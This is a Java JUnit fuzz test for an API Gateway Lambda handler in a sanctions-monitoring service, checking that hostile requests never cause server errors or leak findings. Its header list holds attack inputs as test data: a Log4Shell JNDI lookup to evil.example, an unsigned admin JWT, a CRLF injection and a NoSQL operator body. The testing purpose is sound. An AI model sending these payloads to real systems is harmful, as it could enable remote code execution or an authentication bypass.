package io.sanctionsmonitor.api;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayV2HTTPResponse;
import io.sanctionsmonitor.aws.dynamodb.DynamoDocumentStore;
import io.sanctionsmonitor.aws.dynamodb.DynamoFindingQueries;
import io.sanctionsmonitor.aws.dynamodb.MotoTable;
import io.sanctionsmonitor.model.Finding;
import io.sanctionsmonitor.model.ReportDocument;
import io.sanctionsmonitor.query.FuzzOracle;
import io.sanctionsmonitor.query.FuzzRequests;
import io.sanctionsmonitor.query.FuzzRequests.FuzzRequest;
import io.sanctionsmonitor.testing.SampleFindings;
import java.net.URLDecoder;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The handler end to end against moto: seeded random and hostile requests (see {@link FuzzRequests}) rendered as
 * HTTP API payload 2.0 events with %-encoding tricks, stage prefixes, hostile headers and bodies, and the
 * query-string map instead of the raw string, held to {@link FuzzOracle}'s contract over the seeded findings:
 * never a 5xx, never a code name, the right content type and security headers, and never a finding outside the
 * requested filter.
 */
class ApiFuzzTest {

    /** About a minute against moto on a loaded 2-core machine (1,500 cases took 277 s); -Dfuzz.api.cases for more. */
    static final int CASES = Integer.getInteger("fuzz.api.cases", 600);
    private static final byte[] KEY = "an-api-fuzz-key-of-32-bytes-----".getBytes(StandardCharsets.UTF_8);

    private static MotoTable table;
    private static ApiHandler handler;
    private static List<Finding> findings;
    private static List<ReportDocument> documents;

    @BeforeAll
    static void seedTheTable() {
        table = MotoTable.create("api-fuzz");
        DynamoDocumentStore store = new DynamoDocumentStore(table.client, table.name);
        Random random = new Random(7);
        findings = new ArrayList<>();
        for (int d = 0; d < 4; d++) {
            ReportDocument document = SampleFindings.document("reports/fuzz-" + d + ".txt", "2026-01-0" + (d + 1) + "T00:00:00Z");
            store.begin(document);
            List<Finding> own = SampleFindings.random(random, document.id(), 10 + random.nextInt(8));
            store.complete(document, own);
            findings.addAll(own);
        }
        ReportDocument failed = SampleFindings.document("reports/broken.pdf", "2026-02-01T00:00:00Z");
        store.begin(failed);
        store.fail(failed);
        documents = new DynamoFindingQueries(table.client, table.name).documents(null, 100, null).items();
        handler = new ApiHandler(table.client, table.name, KEY);
    }

    @AfterAll
    static void dropTheTable() {
        table.close();
    }

    @Test
    void hostileEventsNeverBreakTheContract() {
        long seed = Long.getLong("fuzz.seed", 7L);
        Random random = new Random(seed);
        FuzzOracle oracle = new FuzzOracle(findings, documents, 3);
        FuzzRequests requests = new FuzzRequests(new Random(seed), findings, documents);
        List<String> violations = new ArrayList<>();
        for (int i = 0; i < CASES && violations.size() < 10; i++) {
            FuzzRequest planned = requests.next();
            Rendered rendered = render(planned, random, true);
            // Each page of a walk is rendered anew; the oracle judges what the handler was actually sent.
            violations.addAll(oracle.check(rendered.asSent(),
                    r -> answer(r == rendered.asSent() ? rendered.event() : render(r, random, false).event()), requests));
        }
        assertEquals(List.of(), violations, "seed " + seed);
        assertTrue(oracle.checked >= CASES, "answers checked: " + oracle.checked);
        assertTrue(oracle.nonEmptyPages > CASES / 10, "too few requests reached data: " + oracle.nonEmptyPages);
    }

    @Test
    void eventsWithMissingPartsAreAnsweredWithoutAServerError() {
        List<APIGatewayV2HTTPEvent> events = new ArrayList<>();
        events.add(new APIGatewayV2HTTPEvent());
        APIGatewayV2HTTPEvent noContext = new APIGatewayV2HTTPEvent();
        noContext.setRawPath("/findings");
        events.add(noContext);
        APIGatewayV2HTTPEvent noHttp = new APIGatewayV2HTTPEvent();
        noHttp.setRequestContext(new APIGatewayV2HTTPEvent.RequestContext());
        noHttp.setRawQueryString("&&=&%&category");
        events.add(noHttp);
        for (APIGatewayV2HTTPEvent event : events) {
            APIGatewayV2HTTPResponse response = handler.handleRequest(event, null);
            assertTrue(response.getStatusCode() < 500, response.getBody());
        }
    }

    @Test
    void aFailureWhileReadingTheEventIsStillAProblemNotAnEscapedException() {
        APIGatewayV2HTTPEvent event = new APIGatewayV2HTTPEvent();
        event.setRawPath("/findings");
        Map<String, String> query = new HashMap<>();
        query.put("category", null); // API Gateway sends "" for "?category"; a null must not escape as an exception
        event.setQueryStringParameters(query);
        APIGatewayV2HTTPResponse response = handler.handleRequest(event, null);
        assertTrue(response.getStatusCode() < 500, response.getBody());
        assertEquals("application/problem+json", response.getHeaders().get("content-type"));
    }

    @Test
    void unpairedSurrogatesAndControlCharactersInFreeTextReachTheStoreWithoutAServerError() {
        for (String value : List.of("\uD800", "x\uDC00", "\u0000\u0001", "\u202Emsmt", "\uFFFF", "a\uD83D")) {
            for (String name : List.of("source", "item")) {
                APIGatewayV2HTTPEvent event = new APIGatewayV2HTTPEvent();
                event.setRawPath("/findings");
                event.setQueryStringParameters(Map.of(name, value));
                APIGatewayV2HTTPResponse response = handler.handleRequest(event, null);
                assertTrue(response.getStatusCode() < 500, name + "=" + value + ": " + response.getBody());
            }
        }
    }

    /** A planned request as an event, and the request the handler reads from it. */
    record Rendered(APIGatewayV2HTTPEvent event, FuzzRequest asSent) {}

    static Rendered render(FuzzRequest planned, Random random, boolean mayDropContext) {
        APIGatewayV2HTTPEvent event = new APIGatewayV2HTTPEvent();
        APIGatewayV2HTTPEvent.RequestContext context = new APIGatewayV2HTTPEvent.RequestContext();
        APIGatewayV2HTTPEvent.RequestContext.Http http = new APIGatewayV2HTTPEvent.RequestContext.Http();
        http.setMethod(planned.method());
        http.setPath(planned.path());
        http.setSourceIp("203.0.113.7");
        context.setHttp(http);
        context.setRequestId("fuzz-" + random.nextInt(1_000_000));
        context.setRouteKey("$default");
        String method = planned.method();
        String path = planned.path();
        String stage = "$default";
        if (path != null && path.startsWith("/") && random.nextInt(6) == 0) {
            stage = random.nextBoolean() ? "prod" : "v1";
            event.setRawPath("/" + stage + path);
        } else if (random.nextInt(15) == 0) {
            event.setRawPath(null); // the handler falls back to requestContext.http.path
        } else {
            event.setRawPath(path);
        }
        context.setStage(stage);
        event.setRequestContext(context);
        if (mayDropContext && random.nextInt(40) == 0 && "$default".equals(stage) && event.getRawPath() != null) {
            event.setRequestContext(null); // no context: the handler reads a GET
            method = "GET";
        }
        List<Map.Entry<String, String>> sent = new ArrayList<>();
        boolean repeats = planned.params().stream().map(Map.Entry::getKey).distinct().count() < planned.params().size();
        if (!repeats && !planned.params().isEmpty() && random.nextInt(8) == 0) {
            // Only the map, as API Gateway also gives it (repeats would be comma-joined there, so not here).
            Map<String, String> map = new LinkedHashMap<>();
            planned.params().forEach(p -> map.put(p.getKey(), p.getValue()));
            event.setQueryStringParameters(map);
            sent.addAll(planned.params());
        } else {
            StringBuilder raw = new StringBuilder();
            for (Map.Entry<String, String> p : planned.params()) {
                String name = encode(p.getKey(), random);
                String value = encode(p.getValue(), random);
                raw.append(raw.isEmpty() ? "" : "&").append(name).append('=').append(value);
                sent.add(Map.entry(formDecode(name), formDecode(value)));
            }
            if (random.nextInt(10) == 0) {
                raw.append(random.nextBoolean() ? "&" : "&&"); // empty pairs are skipped
            }
            event.setRawQueryString(raw.toString());
            if (!raw.isEmpty() && random.nextInt(4) == 0) {
                event.setQueryStringParameters(Map.of("ignored", "because the raw string wins"));
            }
        }
        event.setHeaders(headers(random));
        if (random.nextInt(3) == 0) {
            event.setBody(random.nextBoolean() ? "{\"category\":{\"$ne\":null},\"limit\":100000}" : "A".repeat(random.nextInt(70_000)));
            event.setIsBase64Encoded(random.nextBoolean());
        }
        return new Rendered(event, new FuzzRequest(method, path, sent));
    }

    /** %-encodings that a client may legitimately use: form, every byte, lowercase hex, '+' or %20 for a space. */
    static String encode(String text, Random random) {
        return switch (random.nextInt(5)) {
            case 0 -> URLEncoder.encode(text, StandardCharsets.UTF_8);
            case 1 -> URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
            case 2 -> {
                StringBuilder s = new StringBuilder();
                for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
                    s.append(String.format(random.nextBoolean() ? "%%%02X" : "%%%02x", b & 0xff));
                }
                yield s.toString();
            }
            case 3 -> {
                // Only what must be encoded, left raw otherwise: unicode and control characters pass as they are.
                StringBuilder s = new StringBuilder();
                text.codePoints().forEach(c -> s.append(c == '&' || c == '=' || c == '%' || c == '+' || c == '#'
                        ? String.format("%%%02X", c) : Character.toString(c)));
                yield s.toString();
            }
            default -> text.matches("[A-Za-z0-9._~-]*") ? text : URLEncoder.encode(text, StandardCharsets.UTF_8)
                    .toLowerCase(Locale.ROOT).replaceAll("%([0-9a-f]{2})", "%$1");
        };
    }

    /** What a form-decoder makes of a name or value; text it cannot decode stays as typed. */
    static String formDecode(String text) {
        try {
            return URLDecoder.decode(text, StandardCharsets.UTF_8);
        } catch (IllegalArgumentException e) {
            return text;
        }
    }

    private static Map<String, String> headers(Random random) {
        Map<String, String> headers = new HashMap<>();
        headers.put("host", "abc123.execute-api.us-east-1.amazonaws.com");
        String[][] hostile = {
                {"content-type", "application/xml"}, {"accept", "text/html"}, {"x-forwarded-for", "127.0.0.1, 10.0.0.1"},
                {"authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9."}, {"cookie", "session=" + "A".repeat(4000)},
                {"x-http-method-override", "DELETE"}, {"x-original-url", "/admin"}, {"range", "bytes=0-99999999"},
                {"accept-encoding", "gzip, deflate, br"}, {"user-agent", "${jndi:ldap://evil.example/a}"},
                {"x-amzn-trace-id", "Root=1-00000000-000000000000000000000000\r\nX: y"}, {"origin", "https://evil.example"},
                {"content-length", "-1"}, {"transfer-encoding", "chunked"}, {"\u0000", "\u0000"}};
        for (int i = random.nextInt(4); i > 0; i--) {
            String[] h = hostile[random.nextInt(hostile.length)];
            headers.put(h[0], h[1]);
        }
        return headers;
    }

    private static FuzzOracle.Response answer(APIGatewayV2HTTPEvent event) {
        APIGatewayV2HTTPResponse response = handler.handleRequest(event, null);
        Map<String, String> headers = response.getHeaders() == null ? Map.of() : response.getHeaders();
        // Findings must not sit in shared caches, nor be sniffed into HTML by a browser.
        assertEquals("no-store", headers.get("cache-control"), "cache-control");
        assertEquals("nosniff", headers.get("x-content-type-options"), "x-content-type-options");
        return new FuzzOracle.Response(response.getStatusCode(), headers.get("content-type"), response.getBody());
    }
}
